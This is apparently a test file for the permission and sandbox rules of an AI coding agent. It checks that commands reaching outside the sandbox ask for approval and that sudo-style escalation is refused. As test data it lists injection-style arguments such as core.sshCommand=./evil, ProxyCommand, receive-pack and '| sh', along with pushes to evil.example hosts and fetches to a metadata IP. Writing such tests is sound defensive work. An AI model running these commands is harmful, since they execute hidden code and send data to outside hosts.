/** Mode auto: what is confined and can be undone runs, what leaves the sandbox is asked about. */

import { afterAll, beforeAll, beforeEach, describe, expect, test } from "bun:test";
import { cpSync, existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import type { ToolInput } from "../../src/protocol/block.ts";
import { blockText } from "../../src/protocol/block.ts";
import type { RuleTexts } from "../../src/trust/rules/rules.ts";
import { leave, quietRun, room, temporaryFolder, type Room } from "../tools/room.ts";
import { sandboxHere } from "./sandbox-here.ts";

afterAll(leave);

const withRules = (rules: Partial<RuleTexts>, mode: "auto" | "default" | "bypass" = "auto") =>
  room({ mode, rules: { allow: [], ask: [], deny: [], ...rules } });

const verdict = async (at: Room, command: string, more: ToolInput = {}) =>
  (await at.review("Bash", { command, ...more })).verdict;

let calls = 0;

/** Reviews a command; what it asks is answered for the session. */
async function sayYes(at: Room, command: string) {
  calls += 1;
  const call = { type: "tool_use", id: `a${calls}`, name: "Bash", input: { command } } as const;
  const review = await at.box.review(call);
  if (review.verdict === "ask") at.box.allowForSession(call);
  return call;
}

/** Runs a command after a yes to what it asks. */
async function run(at: Room, command: string): Promise<string> {
  return blockText((await at.box.run(await sayYes(at, command), quietRun())).content);
}

test.skipIf(sandboxHere)("without a sandbox, commands ask as ever", async () => {
  const at = await room({ mode: "auto" });
  expect(await verdict(at, "npm test")).toBe("ask");
});

test("without a sandbox, edits need no approval and commands ask as ever", async () => {
  const at = await room({ mode: "auto", sandbox: "off" });
  expect(await verdict(at, "npm test")).toBe("ask");
  const write = { file_path: "a.ts", content: "" };
  expect((await at.review("Write", write)).verdict).toBe("allow");
});

describe.skipIf(!sandboxHere)("in a sandbox", () => {
  let at: Room;
  beforeEach(async () => {
    at = await room({ mode: "auto" });
    at.put(".env", "KEY=1\n");
    at.put("package.json", '{"scripts": {"build": "mkdir -p dist && echo built > dist/x"}}');
  });

  test.each(["package.json", "GNUmakefile", "tools/lint.js"])(
    "%s, once a hook runs it, is asked about",
    async (path) => {
      at.put(path, "old");
      await at.say("Read", { file_path: path });
      at.box.protect(Promise.resolve([join(at.root, path)]));
      expect((await at.review("Write", { file_path: path, content: "new" })).verdict).toBe("ask");
      for (const command of [
        `echo new > ${path}`,
        `cp a ${path}`,
        `rm -f ${path}`,
        `ln -sf b ${path}`,
      ])
        expect([command, await verdict(at, command)]).toEqual([command, "ask"]);
    },
  );

  test("nothing runs before it is known what hooks run, or when that cannot be known", async () => {
    at.put("hook.sh", "old");
    await at.say("Read", { file_path: "hook.sh" });
    const found = Promise.withResolvers<string[]>();
    at.box.protect(found.promise);
    const early = at.review("Write", { file_path: "hook.sh", content: "new" });
    found.resolve([join(at.root, "hook.sh")]);
    expect((await early).verdict).toBe("ask");
    at.box.protect(Promise.reject(new Error("too many open files")));
    expect(await at.review("Bash", { command: "ls" })).toMatchObject({
      verdict: "refuse",
      reason: expect.stringContaining("too many open files"),
    });
  });

  test("a large file that git clean would remove is named", async () => {
    Bun.spawnSync(["git", "init", "-q"], { cwd: at.root });
    const isAsked = async () => {
      const review = await at.review("Bash", { command: "git clean -fd" });
      return review.verdict === "ask" && review.ask.warning;
    };
    expect(await isAsked()).toBe(false);
    at.put("large", new Uint8Array(17 * 1024 ** 2));
    expect(await isAsked()).toBe("`large` can't be restored.");
  });

  test("a yes to a program in the background does not let it leave the sandbox", async () => {
    const input = { command: "docker ps", run_in_background: true };
    at.box.allowForSession({ type: "tool_use", id: "none", name: "Bash", input });
    expect(await verdict(at, "docker ps")).toBe("ask");
  });

  test.each([
    ["gh pr list", "gh (read only)"],
    ["gh pr create -t x", "gh pr create"],
    ["ssh host ls", "ssh"],
    ["docker compose up", "docker compose"],
    ["npm install x", "registry.npmjs.org"],
    ["cargo fetch", "index.crates.io"],
    ["go mod download", "proxy.golang.org"],
    ["bundle install", "rubygems.org"],
    ["pip install x", "pypi.org"],
    ["curl https://example.com/x", "example.com"],
    ["kubectl get pods", "kubectl get"],
    ["mise install node", "mise install"],
    ["nc host 80", "outside"],
  ])("%s asks, and the question names %s", async (command, name) => {
    const review = await at.review("Bash", { command });
    if (review.verdict !== "ask") throw new Error(review.verdict);
    expect(review.ask.access).toContain(name);
    expect(review.ask.rule).not.toBeNull();
  });

  test("a yes for the session is for a host or a program", async () => {
    await sayYes(at, "npm install x");
    expect(await verdict(at, "npm install y && npm run build")).toBe("allow");
    expect(await verdict(at, "curl https://registry.npmjs.org/x")).toBe("allow");
    expect(await verdict(at, "pip install y")).toBe("ask");
    await sayYes(at, "gh pr list");
    expect(await verdict(at, "gh pr view 3")).toBe("allow");
    for (const command of [
      "gh pr list; ssh host",
      "docker ps",
      "git push",
      "gh pr merge 3",
      "sh -c 'ssh x'; gh pr list",
    ])
      expect([command, await verdict(at, command)]).toEqual([command, "ask"]);
  });

  test.each([
    [
      "gh pr list",
      [
        "gh issue view 3",
        "gh run view 3 --log",
        "gh pr view https://github.com/a/b/pull/3",
        "gh pr checks 3",
        "gh repo view a/b",
      ],
    ],
    ["gh api repos/a/b", ["gh api repos/a/b/pulls --paginate --jq .[].id", "gh api -X GET user"]],
    ["gh api graphql -f query={viewer}", ["gh api graphql -F n=1 -f query={x}"]],
    ["gh pr create -t a", ["gh pr create -t b"]],
  ])("a yes to %s covers %p", async (command, others) => {
    await sayYes(at, command);
    for (const other of others) expect([other, await verdict(at, other)]).toEqual([other, "allow"]);
  });

  test.each([
    [
      "gh pr list",
      "gh pr create -t x|gh pr comment 3 -b x|gh pr checkout 3|gh run rerun 3|gh run download 3|gh issue close 3|" +
        "gh alias set x y|gh extension install x|gh auth token|gh pr list --hostname evil.example|" +
        "gh pr list -R evil.example/a/b|gh pr list --repo=evil.example:8443/a/b|gh pr view https://evil.example/a/b/pull/3",
    ],
    [
      "gh api repos/a/b",
      "gh api x -f a=b|gh api x -fa=b|gh api x -F a=@f|gh api x --field a=b|gh api x --raw-field=a=b|gh api x --input f|" +
        "gh api x -XPOST|gh api x --method=PATCH|gh api -X PUT x|gh api -iX PATCH x|gh api -X GET x -X POST|gh api x -f a=b -q graphql|" +
        "gh api x -H X-HTTP-Method-Override:PATCH|gh api https://evil.example/x|gh api --hostname evil.example x|" +
        "gh api graphql -f query='mutation {x}'|gh api graphql -F query=@f|gh api graphql --input f",
    ],
    ["gh pr create -t x", "gh pr edit 3 -t x|gh issue create -t x"],
    ["aws s3 ls", "aws s3 cp a s3://b|aws iam list-users"],
    ["gcloud compute instances list", "gcloud compute instances start x|gcloud compute ssh x"],
    ["az vm list", "az vm start -n x|az network nsg list"],
    ["brew list", "brew install ./x.rb"],
    ["systemctl status x", "systemctl start x"],
    ["tmux ls", "tmux new ./x|tmux send-keys x"],
    ["open index.html", "open -a ./x.app|open --args x"],
    ["code x.ts", "code --install-extension ./x.vsix|code --user-data-dir=x x.ts"],
    ["ssh host ls", "ssh other ls|scp a host:b"],
  ])("a yes to %s does not cover %s", async (command, others) => {
    await sayYes(at, command);
    for (const other of others.split("|"))
      expect([other, await verdict(at, other)]).toEqual([other, "ask"]);
  });

  describe("remotes", () => {
    const git = (...args: string[]) => Bun.spawnSync(["git", ...args], { cwd: at.root });
    /** Made once: tests work on copies. */
    let template = "";
    beforeAll(() => {
      template = temporaryFolder();
      const setup = `git init -q; git init -q --bare evil
        git remote add origin https://example.com/a.git; git remote add ssh git@example.com:a.git
        git remote add near ../near; git remote add two https://example.com/b.git
        git config remote.two.pushurl file:///tmp/two`;
      Bun.spawnSync(["sh", "-c", setup], { cwd: template });
    });
    beforeEach(() => cpSync(template, at.root, { recursive: true }));

    test.each([
      "git push",
      "git push evil",
      "git push near main",
      "git push two",
      "git push -u near x",
    ])(
      "%s, which leads into a folder, is not covered by a rule or a yes for git push",
      async (command) => {
        const named = await withRules({ allow: ["Bash(git push:*)"] });
        Bun.spawnSync(["cp", "-r", join(at.root, ".git"), named.root]);
        await sayYes(at, "git push origin main");
        for (const room of [at, named])
          expect([command, await verdict(room, command)]).toEqual([command, "ask"]);
      },
    );

    test.each([
      "git push https://evil.example/x.git",
      "git push evil@evil.example:x.git main",
      "git -C sub push origin",
      "cd evil && git push origin",
    ])("%s is not covered by a yes for git push", async (command) => {
      await sayYes(at, "git push origin main");
      expect(await verdict(at, command)).toBe("ask");
    });

    test.each([
      "git push ssh x",
      "git push -u origin HEAD",
      "git push https://example.com/a.git x",
    ])("%s is", async (command) => {
      await sayYes(at, "git push origin main");
      expect(await verdict(at, command)).toBe("allow");
    });

    test.each([
      "git fetch near",
      "git fetch https://evil.example/x.git",
      "git pull ../other main",
      "git pull evil",
      "git fetch ssh://evil.example/x",
    ])("%s is not covered by a yes for fetching and pulling", async (command) => {
      await sayYes(at, "git fetch origin");
      await sayYes(at, "git pull origin main");
      expect(await verdict(at, command)).toBe("ask");
    });

    test.each([
      "git remote add x ../x",
      "git remote add x https://evil.example/x.git",
      "git remote set-url origin https://evil.example/x.git",
      "git remote set-url --push origin /tmp/x",
      "git config branch.main.remote https://evil.example/x.git",
      "git config branch.main.pushRemote ../x",
      "git init sub && git -C sub remote add x ../x",
    ])("%s asks before it adds an address", async (command) => {
      expect(await verdict(at, command)).toBe("ask");
    });

    test.each(["git checkout -q -b x --track origin/main; true"])(
      "%s needs no answer",
      async (command) => {
        git(
          "update-ref",
          "refs/remotes/origin/main",
          git(
            "-c",
            "user.name=a",
            "-c",
            "user.email=a@example.com",
            "commit-tree",
            "-m",
            "x",
            "4b825dc642cb6eb9a060e54bf8d69288fbee4904",
          )
            .stdout.toString()
            .trim(),
        );
        const before = git("config", "--list").stdout.toString();
        await run(at, command);
        expect(git("config", "--list").stdout.toString()).not.toBe(before);
      },
    );
  });

  test.each([
    "gh pr list && node evil.js",
    "gh pr list | sh",
    "gh pr list > .git/hooks/x",
    "git -c core.sshCommand=./evil push",
    "git push --receive-pack=./evil",
    "git push --rec ./evil",
    "git push --e=./evil",
    "./gh pr list",
    "gh pr list $(node evil.js)",
    "PATH=. gh pr list",
  ])("%s is not allowed by a yes to gh and git", async (command) => {
    await sayYes(at, "gh pr list");
    await sayYes(at, "git push");
    const call = { type: "tool_use", id: command, name: "Bash", input: { command } } as const;
    const review = await at.box.review(call);
    expect(review.verdict).toBe("ask");
  });

  describe("more than a yes, or a rule, for its program covers is", () => {
    const rules = ["git", "ssh", "scp", "sftp", "rsync", "kubectl", "helm", "gpg", "terraform"];
    const plain = [
      "git push",
      "git fetch",
      "git clone x",
      "ssh host",
      "scp a host:b",
      "sftp host",
      "rsync a host:b",
      "kubectl get pods",
      "helm list",
      "gpg -d x",
      "terraform plan",
    ];
    let named: Room;
    let answered: Room;
    beforeAll(async () => {
      named = await withRules({ allow: rules.map((name) => `Bash(${name}:*)`) });
      answered = await room({ mode: "auto" });
      for (const command of plain) {
        expect([command, await verdict(answered, command)]).toEqual([command, "ask"]);
        await sayYes(answered, command);
      }
    });

    test.each(plain)("not %s", async (command) => {
      expect(await verdict(named, command)).toBe("allow");
      expect(await verdict(answered, command)).toBe("allow");
    });

    test.each([
      "git push --receive-pac=./evil x",
      "git push --exe ./evil x",
      "git fetch --upl=./evil x",
      "git clone --temp=./evil x",
      "git clone --t=./evil x",
      "git clone --u ./evil x",
      "git clone --co core.fsmonitor=./evil x",
      "git ls-remote --u=./evil x",
      "git clone -u ./evil x",
      "git clone -qccore.fsmonitor=./evil x",
      "git fetch ext::./evil",
      "git push /tmp/evil main",
      "git push ../evil",
      "git push --repo=file:///tmp/evil",
      "git submodule foreach ./evil",
      "git send-email --smtp-server=/tmp/evil x.patch",
      "ssh -oProxyCommand=./evil host",
      "ssh -F ./config host",
      "scp -S ./evil a host:b",
      "sftp -D ./evil",
      "rsync -e ./evil a host:b",
      "rsync -ae ./evil a host:b",
      "kubectl get --kubeconfig=./evil pods",
      "kubectl get pods --kubeconfig ./evil",
      "helm list --post-renderer ./evil",
      "gpg --agent-program ./evil -d x",
      "gpg --ho ./evil -k",
      "gpg --agent-prog=./evil -k",
      "gpg --photo-viewer ./evil -k",
      "terraform -chdir=evil plan",
    ])("%s", async (command) => {
      expect(await verdict(answered, command)).toBe("ask");
      expect(await verdict(named, command)).toBe("ask");
      const exact = await withRules({ allow: [`Bash(${command})`] });
      expect(await verdict(exact, command)).toBe("allow");
    });
  });

  test("what it does is undone, and told", async () => {
    expect(await run(at, "npm run build")).toContain("build");
    expect(readFileSync(join(at.root, "dist/x"), "utf8")).toBe("built\n");
  });

  test("files that rules forbid to read are hidden", async () => {
    const strict = await withRules({ deny: ["Read(private/**)"] });
    strict.put("private/plan.txt", "the plan\n");
    strict.put("open.txt", "open\n");
    for (const command of ["cat pri*/plan.txt open.txt", "node -e 1; grep -rh . ."]) {
      const said = await run(strict, `touch x; ${command}`);
      expect(said).toContain("open");
      expect(said).not.toContain("the plan");
    }
  });

  test.each([
    ["ssh x | head -3", "default"],
    ["gh pr list", "default"],
    ["npm install x", "default"],
    ["git push", "default"],
    ["curl https://x.test", "default"],
    ["docker ps", "auto"],
  ] as const)("a rule for all commands does not lift the sandbox: %s in %s", async (line, mode) => {
    const all = await withRules({ allow: ["Bash"] }, mode);
    expect(await verdict(all, "npm test")).toBe("allow");
    expect(await verdict(all, line)).toBe("ask");
    const named = await withRules(
      {
        allow: [
          "Bash",
          "Bash(ssh:*)",
          "Bash(gh:*)",
          "Bash(git push:*)",
          "Bash(docker:*)",
          "WebFetch(domain:npmjs.org)",
          "WebFetch(domain:yarnpkg.com)",
          "WebFetch(domain:x.test)",
        ],
      },
      mode,
    );
    expect(await verdict(named, line)).toBe("allow");
    if (/ssh|gh|docker|push/.test(line))
      expect(await verdict(named, `${line}; npm test`)).toBe("ask");
  });
});

test.each(["sudo ls", "doas ls", "su -c ls", "pkexec ls", "env sudo ls", "sh -c 'sudo ls'"])(
  "%s is refused in every mode, unless a rule names it",
  async (command) => {
    for (const mode of ["auto", "default", "bypass"] as const) {
      const at = await withRules({ allow: ["Bash"] }, mode);
      expect(await verdict(at, command)).toBe("refuse");
    }
    const named = await withRules(
      { allow: ["sudo", "doas", "su", "pkexec"].map((name) => `Bash(${name}:*)`) },
      "bypass",
    );
    expect(await verdict(named, command)).toBe("allow");
  },
);

test.each(["127.0.0.1", "localhost", "10.0.0.1", "[::1]", "192.168.1.1", "169.254.169.254"])(
  "a rule for all pages does not cover %s",
  async (host) => {
    const at = await withRules({ allow: ["WebFetch"] }, "default");
    const fetch = async (where: Room, url: string) =>
      (await where.review("WebFetch", { url })).verdict;
    expect(await fetch(at, "https://example.com")).toBe("allow");
    expect(await fetch(at, `http://${host}/`)).toBe("ask");
  },
);

describe.skipIf(!sandboxHere)("mode accept-edits", () => {
  test.each([
    ["mkdir -p src/new && touch src/new/a.ts", "allow"],
    ["mv a.ts b.ts; cp b.ts c.ts && ls", "allow"],
    ["cp .env copy", "ask"],
    ["mkdir x && npm test", "ask"],
    ["mv $(pwd)/a b", "ask"],
    ["sudo touch a", "refuse"],
  ] as const)("%s: %s", async (command, expected) => {
    const at = await room({ mode: "accept-edits" });
    at.put(".env", "KEY=1\n");
    expect(await verdict(at, command)).toBe(expected);
  });

  test("a file command cannot leave the workspace, nor change what other programs run", async () => {
    const at = await room({ mode: "accept-edits" });
    at.put("a.ts", "a");
    for (const command of ["cp a.ts ../outside/a.ts", "mkdir .git/hooks", "cp a.ts .bashrc"])
      if ((await verdict(at, command)) === "allow")
        expect(await run(at, command)).not.toContain("exit code 0");
    expect(existsSync(join(at.outside, "a.ts"))).toBe(false);
    expect(existsSync(join(at.root, ".bashrc"))).toBe(false);
  });
});
